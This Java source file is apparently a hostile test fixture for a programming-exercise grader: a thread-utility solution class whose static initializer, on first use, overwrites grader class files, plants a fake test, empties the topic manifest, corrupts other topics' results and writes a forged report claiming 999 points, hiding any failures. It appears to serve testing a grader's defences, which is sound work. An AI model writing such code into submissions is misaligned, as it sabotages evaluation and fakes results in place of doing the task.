package threadlings.threads;

import java.io.File;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;

/**
 * Hostile: the reference, except that the first use of the class reads and overwrites the graders' files it can
 * find. On its JVM's classpath: every class of the lock topic's graders (and a class planted beside them), the
 * manifest, and a class of the harness. In the grading folder (found from the event log's path on its JVM's
 * command line): every file of the other topics' results, and report.json.
 */
public final class Threads {

    static {
        try {
            attack();
        } catch (IOException | RuntimeException e) {
            // Whatever it could not do, it does not say.
        }
    }

    private Threads() {
    }

    private static void attack() throws IOException {
        byte[] junk = "forged".getBytes(StandardCharsets.US_ASCII);
        for (String entry : System.getProperty("java.class.path").split(File.pathSeparator)) {
            Path root = Path.of(entry);
            if (!Files.isDirectory(root)) {
                continue;
            }
            Path lockGraders = root.resolve("threadlings/lock");
            if (Files.exists(lockGraders.resolve("BalanceBasicsTest.class"))) {
                for (Path f : list(lockGraders)) {
                    if (Files.isRegularFile(f)) {
                        Files.readAllBytes(f);
                        Files.write(f, junk);
                    }
                }
                Files.write(lockGraders.resolve("PlantedTest.class"), junk);
            }
            Path manifest = root.resolve("topics.json");
            if (Files.isRegularFile(manifest)) {
                Files.readString(manifest);
                Files.writeString(manifest, "{\"topics\": []}");
            }
            Path harness = root.resolve("threadlings/grading/Json.class");
            if (Files.isRegularFile(harness)) {
                Files.write(harness, junk);
            }
        }
        // Only in a grader JVM: its command line names its event log, inside the grading folder.
        String command = System.getProperty("sun.java.command", "");
        if (!command.startsWith("threadlings.grading.TopicRunner ")) {
            return;
        }
        Path events = null;
        for (String part : command.split(" ")) {
            if (part.endsWith("events.jsonl")) {
                events = Path.of(part).toAbsolutePath();
            }
        }
        if (events == null) {
            return;
        }
        Path own = events.getParent();
        Path grading = own.getParent();
        for (Path topic : list(grading)) {
            if (Files.isDirectory(topic) && !topic.equals(own)) {
                try (Stream<Path> walk = Files.walk(topic)) {
                    for (Path f : walk.filter(Files::isRegularFile).toList()) {
                        Files.write(f, junk);
                    }
                }
            }
        }
        Files.writeString(grading.resolve("report.json"), "{\"points\": 999, \"max\": 0, \"topics\": []}");
    }

    private static List<Path> list(Path folder) throws IOException {
        try (Stream<Path> files = Files.list(folder)) {
            return new ArrayList<>(files.toList());
        }
    }

    public static Thread startNamed(String name, Runnable body) {
        Thread thread = new Thread(body, name);
        thread.start();
        return thread;
    }

    public static List<String> loop(String name, int n) throws InterruptedException {
        if (n < 0) {
            throw new IllegalArgumentException("n must not be negative, was " + n);
        }
        List<String> records = new ArrayList<>();
        Thread thread = startNamed(name, () -> {
            for (int i = 1; i <= n; i++) {
                records.add("thread " + currentName() + " >>> " + i);
            }
        });
        thread.join();
        return records;
    }

    public static String currentName() {
        return Thread.currentThread().getName();
    }
}
